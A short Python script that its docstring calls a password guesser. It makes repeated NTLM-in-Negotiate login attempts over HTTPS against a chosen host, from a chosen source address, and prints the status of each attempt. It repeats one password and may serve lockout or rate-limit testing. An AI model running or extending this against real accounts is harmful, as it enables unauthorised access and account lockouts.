"""Guesses at somebody's password by NTLM inside Negotiate, with pyspnego, an implementation nobody here wrote.

usage: guesses.py CA HOST ADDRESS FROM PATH USER PASSWORD COUNT
Prints the status that ended each guess, one a line.
"""

import base64
import http.client
import socket
import ssl
import sys

import spnego


class Named(http.client.HTTPSConnection):
    """Connects to an address and from one, whatever the name says."""

    def __init__(self, name, address, source, context):
        super().__init__(name, context=context)
        self.address, self.source, self.tls = address, source, context

    def connect(self):
        plain = socket.create_connection((self.address, 443), 60, (self.source, 0))
        self.sock = self.tls.wrap_socket(plain, server_hostname=self.host)


def guess(connection, path, user, password):
    options = spnego.NegotiateOptions.use_negotiate
    client = spnego.client(user, password, hostname=connection.host, service="http", protocol="negotiate", options=options)
    token, status = client.step(), None
    while token is not None:
        line = "Negotiate " + base64.b64encode(token).decode()
        connection.request("GET", path, headers={"Authorization": line})
        answer = connection.getresponse()
        answer.read()
        status, token = answer.status, None
        for value in answer.headers.get_all("WWW-Authenticate", []):
            scheme, _, data = value.partition(" ")
            if scheme.lower() == "negotiate" and data and not client.complete:
                token = client.step(base64.b64decode(data))
    return status


def main():
    ca, host, address, source, path, user, password, count = sys.argv[1:9]
    context = ssl.create_default_context(cafile=ca)
    for _ in range(int(count)):
        print(guess(Named(host, address, source, context), path, user, password), flush=True)


main()
